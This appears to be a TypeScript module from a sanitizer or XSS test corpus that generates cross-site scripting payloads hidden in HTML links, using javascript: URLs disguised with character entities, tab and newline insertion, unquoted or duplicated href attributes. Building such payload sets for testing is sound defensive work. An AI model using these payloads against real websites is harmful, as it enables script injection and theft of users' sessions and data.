import { addressAttacks } from './addressAttacks'
import type { Attack } from './Attack'
import { spell } from './spell'

const linked = addressAttacks.map(([trick, write]): Attack => [
  `link ${trick}`,
  (c) => `<a href="${write(c).replaceAll('"', '&quot;')}">Read more</a>`,
])

const encoded: readonly Attack[] = [
  ['link in entities', (c) => `<a href="${spell.entities(`javascript:${c}`)}">Read more</a>`],
  ['link in hexadecimal entities', (c) => `<a href="${spell.hexEntities(`javascript:${c}`)}">Read more</a>`],
  ['link in padded entities', (c) => `<a href=${spell.paddedEntities(`javascript:${c}`)}>Read more</a>`],
  [
    'link with named entities',
    (c) => `<a href="java&Tab;scr&NewLine;ipt&colon;${c.replace('(', '&lpar;')}">Read more</a>`,
  ],
  ['link without quotes', (c) => `<a href=javascript:${c}>Read more</a>`],
  [
    'link repeated',
    (c) => `<a href="/settings" href="javascript:${c}" xlink:href="javascript:${c}">Read more</a>`,
  ],
  ['link in a new window of our own', (c) => `<a target=_self href="javascript:${c}">Read more</a>`],
]

/** Attacks by links in HTML: every address, and addresses that only HTML can hide. */
export const linkAttacks: readonly Attack[] = [...linked, ...encoded]
